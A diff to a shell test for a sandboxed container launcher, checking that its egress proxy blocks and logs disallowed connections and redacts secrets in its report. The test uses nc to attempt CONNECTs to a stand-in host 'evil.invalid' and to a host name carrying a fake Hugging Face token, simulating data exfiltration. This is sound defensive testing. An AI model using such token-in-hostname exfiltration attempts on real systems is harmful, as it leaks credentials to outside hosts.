@@ -293,19 +293,20 @@ while True:
 	DOCKER_HOST="unix://$RELAY_DIR/d.sock" run -0 --separate-stderr launch --sign "$T/sign.json" -- /bin/sh -c "
 	    p=\${HTTPS_PROXY#http://}
 	    echo \"proxy \$HTTPS_PROXY no_proxy=[\$NO_PROXY]\"
-	    for t in $ip:443 x.invalid:443 $ip:22 'evil.invalid/a?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:443'; do
+	    for t in $ip:443 x.invalid:443 $ip:22 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.invalid:443 'evil.invalid/a?b:443'; do
 	        printf 'CONNECT %s HTTP/1.1\r\n\r\n' \"\$t\" | timeout 5 nc -w 2 \${p%:*} \${p##*:} | head -1
 	    done"
 	[[ "$stderr" == *"warning: the engine's firewall is not verified"* ]]
 	tr -d '\r' <"$T/pf-$RUN_ID.out.log" >"$T/log"
 	grep -q "^proxy http://[0-9.]*:8888 no_proxy=\[\]$" "$T/log"
 	[ "$(grep -c '^HTTP/1.[01] 200' "$T/log")" = 1 ]
-	[ "$(grep -c '^HTTP/1.[01] 403' "$T/log")" = 3 ]
+	[ "$(grep -c '^HTTP/1.[01] 403' "$T/log")" = 4 ]
 	jq -e --arg ip "$ip" '.network.mode == "hub" and .network.allowlist == ["^\($ip | gsub("\\."; "\\."))$"]
-	    and .security.network_violations == 3
-	    and .security.network_denied == ["x.invalid:443", "\($ip):22", "evil.invalid"]
+	    and .security.network_violations == 4
+	    and .security.network_denied == ["x.invalid:443", "\($ip):22",
+	        "[REDACTED:huggingface-token].invalid:443", "evil.invalid"]
 	    and .security.network_denied_truncated == false
-	    and (.warnings | any(. == "the egress proxy refused 3 connections the workload attempted"))
+	    and (.warnings | any(. == "the egress proxy refused 4 connections the workload attempted"))
 	    and (.warnings | any(startswith("the engine'"'"'s firewall was not verified")))
 	    and .execution.status == "ok"
 	    and (.argv | any(test("^--env=HTTPS_PROXY=http://[0-9.]+:8888$")))' "$T/result.json"
